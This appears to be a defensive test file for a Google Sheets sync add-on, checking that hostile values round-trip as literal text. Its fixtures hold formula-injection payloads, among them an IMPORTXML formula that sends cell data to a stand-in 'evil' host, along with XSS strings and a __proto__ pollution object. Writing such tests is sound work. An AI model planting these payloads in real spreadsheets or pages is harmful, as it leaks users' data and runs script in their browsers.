// Hostile values through pull -> edit -> push -> pull: each reads back identical, none becomes a live
// formula, HTML names stay text, and a push after a pull sends nothing.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { JsonValue } from '../../emulators/table-service';
import { CRM, DEALS, startWorld, type World } from './world';

const DIST = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../dist');

/** Text that Sheets would parse, evaluate or mangle if written as typed input. */
const TEXT_CORPUS: readonly string[] = [
  '=IMPORTXML("http://evil/?"&A1,"//a")',
  '=1+1',
  '+cmd',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=HYPERLINK("http://evil")',
  "'=1+1",
  '00123',
  '2024-01-05',
  'TRUE',
  'false',
  '50%',
  '1e5',
  '+1',
  '$2.99',
  '12:30',
  'a\u0000b\u0001c\u0007d\u001b\u007f',
  'x\ud800y\udc00z',
  'emoji 🚀👩‍💻🇯🇵',
  'صفقة الشرق الأوسط \u202eRTL\u202c',
  '  padded  ',
  '<script>alert(1)</script>',
  'line1\nline2\r\nline3',
];
const LONG_TEXT = `${'Lorem ipsum — 東京 🚀 '.repeat(2600)}`.slice(0, 50000);

/** JSON values with keys and shapes that trip naive object handling. */
const JSON_CORPUS: readonly JsonValue[] = [
  JSON.parse(
    '{"__proto__":{"polluted":true},"constructor":{"prototype":{"x":1}},"toString":"no"}',
  ) as JsonValue,
  { mixed: [1, 'a', true, null, { x: [] }, [2, ['3']], -0.5, 1e300] },
  { '': '', 'a.b': { '=c': '=IMPORTXML("http://evil","//a")' } },
  {},
  { hasOwnProperty: 1, valueOf: [null], __defineGetter__: '' },
];
const NUMBER_CORPUS: readonly number[] = [
  1e308,
  -1.7976931348623157e308,
  5e-324,
  123456789012345680000,
  -0,
  0.1 + 0.2,
];

interface Cells {
  headers: string[];
  values: unknown[][];
  formulas: string[][];
}

function readSheet(world: World): Cells {
  const sheet = world.sim.spreadsheet.getActiveSheet();
  const range = sheet.getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn());
  const values = range.getValues() as unknown[][];
  return {
    headers: (values[0] as unknown[]).map(String),
    values: values.slice(1),
    formulas: range.getFormulas().slice(1),
  };
}

function cellOf(cells: Cells, rowId: string, column: string): unknown {
  const idCol = cells.headers.indexOf('id');
  const line = cells.values.find((row) => row[idCol] === rowId);
  return line?.[cells.headers.indexOf(column)];
}

/** The text a JSON column's cell must hold: the JSON of the value (any spacing), compared parsed. */
function sameJson(cell: unknown, value: JsonValue): boolean {
  return typeof cell === 'string' && JSON.stringify(JSON.parse(cell)) === JSON.stringify(value);
}

describe('hostile input', () => {
  let world: World;
  let rowIds: string[] = [];

  beforeAll(async () => {
    world = await startWorld();
    world.connect();
    world.linkAndPull();
    rowIds = (await world.serviceRows()).map((row) => String(row.id));
    expect(rowIds.length).toBeGreaterThanOrEqual(TEXT_CORPUS.length);
  });
  afterAll(async () => world?.close());

  const writesIn = async (): Promise<number> =>
    (await world.emulator.admin.requestLog()).filter((entry) => entry.method !== 'GET').length;

  const expectNoLiveFormula = (cells: Cells): void => {
    const synced = new Set([
      'title',
      'status',
      'amount',
      'won',
      'closeDate',
      'tags',
      'meta',
      'notes',
      'id',
      'lMod',
      '_sync',
    ]);
    cells.formulas.forEach((row, line) => {
      row.forEach((formula, c) => {
        if (synced.has(cells.headers[c] as string) && formula !== '')
          throw new Error(`line ${line + 2} ${cells.headers[c]} became a live formula: ${formula}`);
      });
    });
  };

  it('service values come into cells literally and a push after the pull sends nothing', async () => {
    const admin = world.emulator.admin;
    for (const [i, text] of TEXT_CORPUS.entries()) {
      await admin.editRow(
        CRM,
        DEALS,
        rowIds[i] as string,
        { title: text, status: text.slice(0, 64), notes: text },
        'u_bob',
      );
    }
    await admin.editRow(CRM, DEALS, rowIds[0] as string, { notes: LONG_TEXT }, 'u_bob');
    for (const [i, value] of JSON_CORPUS.entries()) {
      await admin.editRow(CRM, DEALS, rowIds[i] as string, { meta: value }, 'u_bob');
    }
    for (const [i, value] of NUMBER_CORPUS.entries()) {
      await admin.editRow(CRM, DEALS, rowIds[i] as string, { amount: value }, 'u_bob');
    }
    const pulled = world.call<{ ok: boolean; message: string }>('pullActiveSheet');
    expect(pulled.ok, pulled.message).toBe(true);
    const cells = readSheet(world);
    for (const [i, text] of TEXT_CORPUS.entries()) {
      const id = rowIds[i] as string;
      expect(cellOf(cells, id, 'title'), `title ${JSON.stringify(text)}`).toBe(text);
      expect(cellOf(cells, id, 'status')).toBe(text.slice(0, 64));
      if (i > 0) expect(cellOf(cells, id, 'notes'), `notes ${JSON.stringify(text)}`).toBe(text);
    }
    expect(cellOf(cells, rowIds[0] as string, 'notes')).toBe(LONG_TEXT);
    for (const [i, value] of JSON_CORPUS.entries()) {
      expect(
        sameJson(cellOf(cells, rowIds[i] as string, 'meta'), value),
        `meta ${JSON.stringify(value)}`,
      ).toBe(true);
    }
    for (const [i, value] of NUMBER_CORPUS.entries()) {
      // JSON has no -0: the service sends 0.
      expect(cellOf(cells, rowIds[i] as string, 'amount')).toBe(Object.is(value, -0) ? 0 : value);
    }
    expectNoLiveFormula(cells);

    await admin.clearLog();
    const pushed = world.call<{ ok: boolean; updated: number; created: number }>('pushActiveSheet');
    expect(pushed.ok).toBe(true);
    expect(pushed.updated + pushed.created).toBe(0);
    expect(await writesIn()).toBe(0);
    expect(Object.prototype.hasOwnProperty.call({}, 'polluted')).toBe(false);
  });

  it('values a person types go to the service exactly and read back identical after a pull', async () => {
    const admin = world.emulator.admin;
    const sheet = world.sim.spreadsheet.getActiveSheet();
    const before = readSheet(world);
    const col = (header: string): number => before.headers.indexOf(header) + 1;
    const lineOf = (id: string): number => before.values.findIndex((row) => row[col('id') - 1] === id) + 2;
    // Text columns are plain text (@): a person's string stays a string there.
    const typed = [...TEXT_CORPUS].reverse();
    for (const [i, text] of typed.entries()) {
      sheet.getRange(lineOf(rowIds[i] as string), col('notes')).setValue(text);
    }
    sheet.getRange(lineOf(rowIds[0] as string), col('meta')).setValue(JSON.stringify(JSON_CORPUS[0]));
    sheet
      .getRange(lineOf(rowIds[1] as string), col('meta'))
      .setValue('{"a":[true,"x",2.5,null,{"__proto__":1}]}');
    sheet.getRange(lineOf(rowIds[2] as string), col('amount')).setValue(-1e300);
    await admin.clearLog();
    // Notes typed on most lines at once are held as a likely accident: the person confirms.
    const pushed = world.call<{ ok: boolean; updated: number; errors: number; message: string }>(
      'pushActiveSheet',
      { confirmHeld: true },
    );
    expect(pushed.ok, pushed.message).toBe(true);
    expect(pushed.errors).toBe(0);
    const service = new Map((await world.serviceRows()).map((row) => [String(row.id), row]));
    for (const [i, text] of typed.entries()) {
      expect(service.get(rowIds[i] as string)?.notes, `pushed ${JSON.stringify(text)}`).toBe(text);
    }
    expect(JSON.stringify(service.get(rowIds[0] as string)?.meta)).toBe(JSON.stringify(JSON_CORPUS[0]));
    expect(JSON.stringify(service.get(rowIds[1] as string)?.meta)).toBe(
      '{"a":[true,"x",2.5,null,{"__proto__":1}]}',
    );
    expect(service.get(rowIds[2] as string)?.amount).toBe(-1e300);
    // Only the edited columns were sent.
    for (const entry of (await admin.requestLog()).filter((e) => e.method === 'PATCH')) {
      const keys = Object.keys(JSON.parse(entry.body) as object);
      expect(
        keys.every((key) => ['notes', 'meta', 'amount'].includes(key)),
        entry.body.slice(0, 200),
      ).toBe(true);
    }

    const pulled = world.call<{ ok: boolean }>('pullActiveSheet');
    expect(pulled.ok).toBe(true);
    const after = readSheet(world);
    for (const [i, text] of typed.entries()) expect(cellOf(after, rowIds[i] as string, 'notes')).toBe(text);
    expectNoLiveFormula(after);
    await admin.clearLog();
    const again = world.call<{ ok: boolean; updated: number }>('pushActiveSheet');
    expect(again.ok && again.updated).toBe(0);
    expect(await writesIn()).toBe(0);
  });

  it('HTML in table app and column names stays text in notes, listings and the sidebar', async () => {
    const admin = world.emulator.admin;
    const htmlName = '<b onmouseover=alert(1)>Evil</b><script>alert(2)</script>';
    const column = await admin.addColumn(CRM, DEALS, { name: htmlName, type: 'text' } as never);
    const pulled = world.call<{ ok: boolean; message: string }>('pullActiveSheet');
    expect(pulled.ok, pulled.message).toBe(true);
    const sheet = world.sim.spreadsheet.getActiveSheet();
    const headers = (sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0] as unknown[]).map(String);
    const at = headers.indexOf(String(column.id)) + 1;
    expect(at).toBeGreaterThan(0);
    expect(sheet.getRange(1, at).getNote()).toContain(htmlName);
    expect(
      sheet
        .getRange(1, 1, 1, sheet.getLastColumn())
        .getFormulas()[0]
        ?.every((f) => f === ''),
    ).toBe(true);

    const apps = world.call<{ name: string }>('listTables', { tableAppId: 'ta_ops' });
    expect(apps.name).toBe('<img src=x onerror=alert(1)> Ops');
    const ops = world.sim.spreadsheet.insertSheet('Ops');
    world.sim.spreadsheet.setActiveSheet(ops);
    world.call('linkActiveSheet', { tableAppId: 'ta_ops', tableId: 'tbl_tasks' });
    const state = world.call<{ link: { tableAppName: string } }>('getState');
    expect(state.link.tableAppName).toBe('<img src=x onerror=alert(1)> Ops');
    // The sidebar puts names in as text: its script never parses strings as HTML.
    const sidebar = readFileSync(path.join(DIST, 'Sidebar.html'), 'utf8');
    expect(sidebar).not.toMatch(/\.innerHTML\s*=|outerHTML\s*=|insertAdjacentHTML|document\.write/);
  });
});

describe('a conflict on a line holding 50,000-character text', () => {
  let world: World;
  beforeAll(async () => {
    world = await startWorld();
    world.connect();
    world.linkAndPull();
  });
  afterAll(async () => world?.close());

  // A conflicting value too large for the base cell is kept as a digest; Take theirs then pulls it.
  it('is marked as a conflict on a push and on a pull, not a failed run', async () => {
    const [row] = await world.serviceRows();
    const id = String(row?.id);
    const sheet = world.sim.spreadsheet.getActiveSheet();
    const headers = (sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0] as unknown[]).map(String);
    const ids = sheet
      .getRange(2, headers.indexOf('id') + 1, sheet.getLastRow() - 1, 1)
      .getValues()
      .map((r) => r[0]);
    const line = ids.indexOf(id) + 2;
    sheet.getRange(line, headers.indexOf('notes') + 1).setValue('mine');
    await world.emulator.admin.editRow(CRM, DEALS, id, { notes: LONG_TEXT }, 'u_bob');
    const pushed = world.call<{ ok: boolean; conflicts: number; message: string }>('pushActiveSheet');
    expect(pushed.message).not.toMatch(/unexpected/i);
    expect(pushed.ok).toBe(true);
    expect(pushed.conflicts).toBe(1);
    const pulled = world.call<{ ok: boolean; conflicts: number; message: string }>('pullActiveSheet');
    expect(pulled.ok, pulled.message).toBe(true);
    expect(String(sheet.getRange(line, headers.indexOf('_sync') + 1).getValue())).toMatch(
      /^⚠ conflict: notes/,
    );
  });
});
